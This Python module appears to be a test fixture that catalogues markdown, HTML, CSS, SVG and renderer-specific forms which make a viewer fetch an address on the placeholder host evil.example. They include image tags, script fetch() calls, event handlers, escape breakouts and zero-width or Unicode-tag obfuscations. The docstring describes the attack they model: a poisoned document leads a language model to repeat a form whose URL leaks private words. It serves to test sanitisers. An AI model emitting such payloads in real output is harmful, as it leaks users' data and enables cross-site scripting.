"""Every known way in which a text asks whoever shows it to call another machine.

A poisoned document holds one, a model repeats it, and an address with private words in it is
fetched. ``loads`` tells what the form does without any guard, which a test proves in a browser.
"""

from dataclasses import dataclass
from typing import Literal

HOST = "evil.example"
_URL = f"https://{HOST}"
# at once; only the name is looked up or connected to; at a click; not in any browser of today
Loads = Literal["at once", "looks up", "when clicked", "never"]


@dataclass(frozen=True, slots=True)
class Form:
    """One form. Its address ends with its name, which has hyphens for spaces."""

    name: str
    text: str
    loads: Loads = "at once"

    @property
    def line(self) -> str:
        """The text without line breaks, for a heading, a file name or a cell."""
        return " ".join(self.text.split())


def _form(name: str, text: str, loads: Loads = "at once") -> Form:
    address = f"{_URL}/{name.replace(' ', '-')}"
    return Form(name, text.replace("URL", address).replace("HOST", HOST), loads)


_MARKDOWN = (
    _form("inline image", "![x](URL)"),
    _form("image with a title", '![x](URL "title")'),
    _form("image in angle brackets", "![x](<URL>)"),
    _form("image whose words are nested", "![a [b] c](URL)"),
    _form("image over two lines", "![a\nb](URL)"),
    _form("image with an address of its own line", "![x](\nURL\n)"),
    _form("image without a scheme", "![x](//HOST/image-without-a-scheme)"),
    _form("image behind entities", "![x](&#104;ttps&colon;//HOST/image-behind-entities)"),
    _form("reference image", "![x][r]\n\n[r]: URL"),
    _form("collapsed reference image", "![r][]\n\n[r]: URL"),
    _form("shortcut reference image", "![r]\n\n[r]: URL 'title'"),
    _form("image in a link", "[![x](URL)](URL)"),
    _form("image in a heading", "# ![x](URL)"),
    _form("image in a list", "- one\n- ![x](URL)"),
    _form("image in a quote", "> ![x](URL)"),
    _form("image in a table", "| a | b |\n|---|---|\n| ![x](URL) | c |"),
    _form("image in bold", "**![x](URL)** and `![x](URL)`"),
    _form("image in a footnote", "Words[^1].\n\n[^1]: See ![x](URL)"),
    _form("link", "[go](URL)", "when clicked"),
    _form("link with a title", '[go](URL "title")', "when clicked"),
    _form("reference link", "[go][r]\n\n[r]: URL", "when clicked"),
    _form("autolink", "<URL>", "when clicked"),
    _form("bare address", "Look at URL now.", "when clicked"),
    _form("bare www", "Look at www.HOST/bare-www now.", "when clicked"),
    _form("mail address", "<someone@HOST> and someone@HOST", "when clicked"),
    _form("citation as a link", "[1](URL) and [1]: URL", "when clicked"),
    _form("javascript link", "[go](javascript:fetch('URL'))", "when clicked"),
    _form("data link", "[go](data:text/html,<img src='URL'>)"),
)
_HTML = (
    _form("img", "<img src='URL'>"),
    _form("img without quotes", "<IMG SRC=URL >"),
    _form("img over lines", "<img\nsrc\n=\n'URL'\n>"),
    _form("img that is never closed", "<img src='URL' alt='"),
    _form("img with a slash", "<img/src='URL'/alt=x>"),
    _form("image element", "<image src='URL'>"),
    _form("srcset", "<img srcset='URL 1x, URL?2 2x'>"),
    _form("picture", "<picture><source srcset='URL'><img alt='x'></picture>"),
    _form("video", "<video src='URL' autoplay preload='auto'></video>"),
    _form("poster", "<video poster='URL'></video>"),
    _form("audio", "<audio src='URL' preload='auto'></audio>"),
    _form("media source", "<video preload='auto'><source src='URL' type='video/mp4'></video>"),
    _form("track", "<video src='data:video/mp4,'><track default src='URL'></video>"),
    _form("iframe", "<iframe src='URL'></iframe>"),
    _form("iframe with its own page", "<iframe srcdoc=\"<img src='URL'>\"></iframe>"),
    _form("iframe with data", '<iframe src="data:text/html,<img src=URL>"></iframe>'),
    _form("object", "<object data='URL'></object>"),
    _form("embed", "<embed src='URL'>"),
    _form("style sheet", "<link rel='stylesheet' href='URL'>"),
    _form("prefetch", "<link rel='prefetch' href='URL'>"),
    _form("preload", "<link rel='preload' as='image' href='URL'>"),
    _form("module preload", "<link rel='modulepreload' href='URL'>"),
    _form("icon", "<link rel='icon' href='URL'>", "never"),
    _form("preconnect", "<link rel='preconnect' href='https://preconnect.HOST'>", "looks up"),
    _form("dns prefetch", "<link rel='dns-prefetch' href='//prefetch.HOST'>", "looks up"),
    _form("import", "<style>@import 'URL';</style>"),
    _form("background in a style sheet", "<style>body { background: url(URL) }</style>"),
    _form("font", "<style>@font-face{font-family:e;src:url(URL)}b{font-family:e}</style><b>x</b>"),
    _form("content", "<style>i::before { content: url(URL) }</style><i>x</i>"),
    _form("background in a style", '<p style="background:url(URL)">x</p>'),
    _form("list style", '<li style="list-style-image:url(URL)">x</li>'),
    _form("image set", "<p style=\"background:image-set('URL' 1x)\">x</p>"),
    _form("cursor", '<p style="border-image:url(URL) 9;border-style:solid">x</p>'),
    _form("body background", "<body background='URL'>"),
    _form("table background", "<table background='URL'><tr><td>x</table>"),
    _form("cell background", "<table><tr><td background='URL'>x</td></tr></table>"),
    _form("input as an image", "<input type='image' src='URL'>"),
    _form("svg image", "<svg><image href='URL'/></svg>"),
    _form("svg xlink", "<svg><image xlink:href='URL'/></svg>"),
    _form("svg use", "<svg><use href='URL#a'/></svg>"),
    _form("svg filter", "<svg><filter id='f'><feImage href='URL'/></filter>"
          "<rect width='9' height='9' filter='url(#f)'/></svg>"),
    _form("svg with html", "<svg><foreignObject><img src='URL'/></foreignObject></svg>"),
    _form("svg style", "<svg><style><img src='URL'>"),
    _form("svg as data", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
          "<image href='URL'/></svg>\">", "never"),
    _form("math", "<math href='URL'><mtext>x</mtext></math>", "when clicked"),
    _form("math with html", "<math><mtext><img src='URL'></mtext></math>"),
    _form("refresh", "<meta http-equiv='refresh' content='0;url=URL'>"),
    _form("base", "<base href='https://HOST/'><img src='base'>"),
    _form("form", "<form action='URL'><input name='q' value='x'><button>go</button></form>",
          "when clicked"),
    _form("button", "<form><button formaction='URL'>go</button></form>", "when clicked"),
    _form("ping", "<a href='#' ping='URL'>go</a>", "when clicked"),
    _form("html link", "<a href='URL'>go</a>", "when clicked"),
    _form("new window", "<a href='URL' target='_blank' rel='opener'>go</a>", "when clicked"),
    _form("script", "<script>fetch('URL')</script>"),
    _form("script elsewhere", "<script src='URL'></script>"),
    _form("error handler", "<img src='data:,' onerror=\"fetch('URL')\">"),
    _form("load handler", "<svg onload=\"fetch('URL')\"></svg>"),
    _form("focus handler", "<input autofocus onfocus=\"fetch('URL')\">"),
    _form("toggle handler", "<details open ontoggle=\"fetch('URL')\"><p>x</p></details>"),
    _form("javascript frame", "<iframe src=\"javascript:fetch('URL')\"></iframe>"),
)  # fmt: skip
_ESCAPES = (
    _form("end of an element", "</p></div></mark></code></textarea></style><img src='URL'>"),
    _form("end of a title", "</title></script></noscript><img src='URL'>"),
    _form("end of a comment", "--><img src='URL'><!--"),
    _form("end of an attribute", "\"><img src='URL'><b title=\""),
    _form("end of another attribute", "'><img src=\"URL\"><b title='"),
    _form("handler in an attribute", "\" onmouseover=\"fetch('URL')\" x=\"", "never"),
    _form("noscript", '<noscript><p title="</noscript><img src=URL>">'),
    _form("template", "<template><img src='URL'></template>", "never"),
    _form("bold around html", "**<img src='URL'>** `<img src='URL'>`"),
    _form("html in the words of a link", "[<img src='URL'>](#)"),
    _form("html in the words of an image", "![<img src='URL'>](#)"),
    _form("entities of html", "&lt;img src='URL'&gt; &#60;img src='URL'&#62;", "never"),
    _form("full width", "＜img src＝＇URL＇＞ ！［x］（URL）", "never"),
    _form("text from the right", "\u202e![x](URL)\u202c \u2067<img src='URL'>\u2069"),
    _form("no width", "!\u200b[x](URL) <im\u200bg src='URL'> \ufeff![x](URL)"),
    _form("spaces that are none", "![x](\u00a0URL ) <\u2028img src='URL'> ![x](\u2060URL )"),
    _form("tags of unicode", "".join(chr(0xE0000 + ord(c)) for c in "![x](//HOST)"), "never"),
)  # fmt: skip
_RENDERERS = (
    _form("streamlit icon", ":material/home: :smile: :streamlit: :material/../../HOST:", "never"),
    _form("streamlit colour", ":red[![x](URL)] :color[x]{background=\"url(URL)\"}"),
    _form("streamlit badge", ":red-badge[![x](URL)] :small[![x](URL)] :shimmer[<img src=URL>]"),
    _form("streamlit image", ":image[x](URL) :image[URL]", "when clicked"),
    _form("emoji with an address", ":x:URL :https://HOST:", "when clicked"),
    _form("latex picture", "$\\includegraphics{URL}$ $$\n\\includegraphics[height=1em]{URL}\n$$",
          "never"),
    _form("latex link", "$\\href{URL}{x}$ $\\url{URL}$", "never"),
    _form("latex html", "$\\htmlStyle{background:url(URL)}{x}$ \\(\\href{URL}{x}\\)", "never"),
    _form("mermaid", "```mermaid\ngraph TD; A[<img src='URL'>]; click A 'URL'\n```"),
    _form("vega", '```vega-lite\n{"data": {"url": "URL"}, "mark": "bar"}\n```', "never"),
    _form("code", "```html\n<img src='URL'>\n```\n\n    <img src='URL'>"),
    _form("wiki picture", "![[URL]] [[URL]] {{URL}} <<URL>>", "never"),
)  # fmt: skip

FORMS: tuple[Form, ...] = (*_MARKDOWN, *_HTML, *_ESCAPES, *_RENDERERS)
